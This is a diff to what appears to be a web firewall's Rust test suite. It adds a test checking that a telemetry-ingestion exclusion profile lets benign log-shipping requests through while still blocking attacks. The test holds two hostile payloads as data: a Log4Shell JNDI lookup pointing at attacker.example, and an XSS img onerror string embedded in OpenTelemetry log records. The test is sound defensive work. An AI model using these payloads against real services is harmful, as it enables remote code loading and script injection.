@@ -438,6 +438,68 @@ fn devops_corpus_floors_at_paranoia_1() {
     held_out_floors("devops", 200, 1, 30, 12);
 }
 
+/// The proxy's telemetry profile (`proxy/profiles/telemetry-ingestion.yaml`) parses and
+/// compiles as exclusions, clears the log and span shipping of the data/observability corpus,
+/// and lets no attack of that corpus through (they do not target ingestion paths) nor one
+/// aimed at an ingestion path with a class it keeps.
+#[test]
+fn telemetry_profile_clears_log_shipping() {
+    let file = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../proxy/profiles/telemetry-ingestion.yaml");
+    let text = std::fs::read_to_string(&file).unwrap();
+    let specs: Vec<rulesets::ExclusionSpec> = serde_yaml::from_str(&text).unwrap();
+    let cfg = EvalConfig {
+        exclusions: std::sync::Arc::new(rulesets::Exclusions::compile(&specs).unwrap()),
+        ..EvalConfig::default()
+    };
+    let set = load_builtin().unwrap();
+    let judge = |name: &str| -> Vec<(CorpusRecord, bool)> {
+        let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+            .join("tests/data")
+            .join(name);
+        requests_of(&path, 1)
+            .into_iter()
+            .map(|(rec, raw)| {
+                let req = httpraw::parse_request(&raw, Limits::default(), 1 << 20);
+                let blocked = set.evaluate(&req, &cfg).is_block();
+                (rec, blocked)
+            })
+            .collect()
+    };
+    let benign = judge("dataops-benign.jsonl");
+    let wrongly: Vec<&str> = benign
+        .iter()
+        .filter(|(rec, blocked)| *blocked && !rec.id.contains("/dev-content/"))
+        .map(|(rec, _)| rec.id.as_str())
+        .collect();
+    // 2026-12-05: 57 ordinary requests blocked without the profile, 12 with it.
+    assert!(
+        wrongly.len() <= 12,
+        "{} blocked: {wrongly:?}",
+        wrongly.len()
+    );
+    let missed = judge("dataops-attacks.jsonl")
+        .iter()
+        .filter(|(_, blocked)| !blocked)
+        .count();
+    assert!(missed <= 2, "{missed} attacks let through with the profile");
+    // What the profile keeps on an ingestion path: Log4Shell and stored XSS in a log record.
+    for payload in [
+        "${jndi:ldap://attacker.example/a}",
+        "<img src=x onerror=alert(document.domain)>",
+    ] {
+        let body = serde_json::json!({"resourceLogs": [{"scopeLogs": [{"logRecords": [
+            {"body": {"stringValue": payload}}]}]}]})
+        .to_string();
+        let raw = format!(
+            "POST /v1/logs HTTP/1.1\r\nHost: otel\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        let req = httpraw::parse_request(raw.as_bytes(), Limits::default(), 1 << 20);
+        assert!(set.evaluate(&req, &cfg).is_block(), "{payload}");
+    }
+}
+
 #[test]
 fn long_prose_bodies_pass_at_paranoia_1() {
     // Held-out benign text in none of the corpora: the licence texts every Debian and Ubuntu
